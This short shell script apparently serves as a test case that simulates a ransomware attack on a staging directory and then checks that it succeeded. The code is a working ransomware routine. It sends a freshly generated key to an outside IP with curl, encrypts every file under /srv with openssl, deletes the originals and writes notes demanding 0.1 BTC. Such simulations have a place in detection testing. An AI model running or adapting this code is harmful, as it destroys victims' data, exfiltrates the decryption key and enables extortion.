#!/bin/sh
. /opt/case/case.sh

for n in $(seq 1 60); do head -c 5000 /dev/urandom >/srv/data/r$n.doc; done
k=$(openssl rand -hex 32); curl -s -d "$k" http://203.0.113.10/k >/dev/null
find /srv -type f ! -name '*.locked' | while read -r f; do openssl enc -aes-256-ctr -K "$k" -iv 00000000000000000000000000000000 -in "$f" -out "$f.locked" && rm -f "$f"; done
find /srv -type d | while read -r d; do echo 'Your files are encrypted. Send 0.1 BTC' >"$d/README_RESTORE.txt"; done
test "$(find /srv -name '*.locked' | wc -l)" -gt 60
took_place
